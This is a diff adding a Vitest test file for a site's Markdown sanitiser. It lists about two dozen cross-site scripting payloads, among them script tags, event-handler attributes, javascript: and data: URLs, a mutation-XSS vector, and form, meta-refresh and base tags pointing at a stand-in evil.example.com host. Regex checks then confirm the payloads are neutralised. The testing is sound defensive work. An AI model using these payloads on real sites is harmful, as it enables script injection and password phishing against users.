@@ -1,0 +1,71 @@
+import { describe, expect, it } from "vitest";
+import { renderMarkdown } from "./markdown.server";
+
+function html(md: string) {
+  const out = renderMarkdown(md);
+  if (out.error) throw new Error("render failed");
+  return out.html;
+}
+
+// Hostile inputs an editor account (or a stolen one) could save. None may produce
+// anything a browser would execute.
+const hostile = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  '<a href="javascript:alert(1)">clique</a>',
+  "[clique](javascript:alert(1))",
+  "[clique](JaVaScRiPt:alert(1))",
+  "[dados](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<svg onload="alert(1)"><circle r="10"/></svg>',
+  '<p style="background:url(javascript:alert(1))">estilo</p>',
+  '<div style="position:fixed;inset:0">sobreposição</div>',
+  '<iframe src="https://evil.example.com"></iframe>',
+  '<object data="x.swf"></object><embed src="x.swf">',
+  '<form action="https://evil.example.com"><input name="senha"></form>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<a href="https://x.com" onclick="alert(1)">x</a>',
+  '<details open ontoggle="alert(1)">x</details>',
+  "![img](javascript:alert(1))",
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  "<base href='https://evil.example.com/'>",
+  "<meta http-equiv='refresh' content='0;url=https://evil.example.com'>",
+  "<link rel=stylesheet href=https://evil.example.com/x.css>",
+  "<style>body{display:none}</style>",
+  '<p align="center" onmouseover="alert(1)">x</p>',
+];
+
+describe("renderMarkdown sanitising (D12)", () => {
+  it.each(hostile)("neutralises %s", (input) => {
+    const out = html(input).toLowerCase();
+    expect(out).not.toMatch(/<script|<iframe|<object|<embed|<form|<svg|<style|<base|<meta|<link|<math/);
+    // Inside a tag, not in text the sanitiser escaped (&lt;img onerror=…&gt; is harmless).
+    expect(out).not.toMatch(/<[^>]*\son[a-z]+\s*=/);
+    expect(out).not.toMatch(/<[^>]*(href|src)\s*=\s*"\s*(javascript|data|vbscript):/);
+    expect(out).not.toMatch(/<[^>]*\sstyle\s*=/);
+  });
+
+  it("keeps ordinary Markdown: headings, emphasis, lists, tables and links", () => {
+    const out = html(
+      "## Lúpulos\n\n**Amargor** e _aroma_.\n\n- Citra\n- Mosaic\n\n| Estilo | IBU |\n|---|---|\n| IPA | 60 |\n\n[Guia](https://exemplo.com.br/guia)",
+    );
+    expect(out).toContain("<h2>Lúpulos</h2>");
+    expect(out).toContain("<strong>Amargor</strong>");
+    expect(out).toContain("<li>Citra</li>");
+    expect(out).toContain("<td>IPA</td>");
+    expect(out).toContain('href="https://exemplo.com.br/guia"');
+    expect(out).toContain('rel="noopener noreferrer"');
+  });
+
+  it("keeps the editor's subset: <u> and align on blocks", () => {
+    const out = html('<p align="center">centro</p>\n\nTexto <u>sublinhado</u>.');
+    expect(out).toContain('<p align="center">centro</p>');
+    expect(out).toContain("<u>sublinhado</u>");
+    expect(html('<p align="evil">x</p>')).not.toContain("align=");
+  });
+
+  it("keeps images from the web and our own uploads", () => {
+    expect(html("![Copo](https://exemplo.com.br/copo.png)")).toContain('src="https://exemplo.com.br/copo.png"');
+    expect(html("![Copo](/media/123)")).toContain('src="/media/123"');
+  });
+});
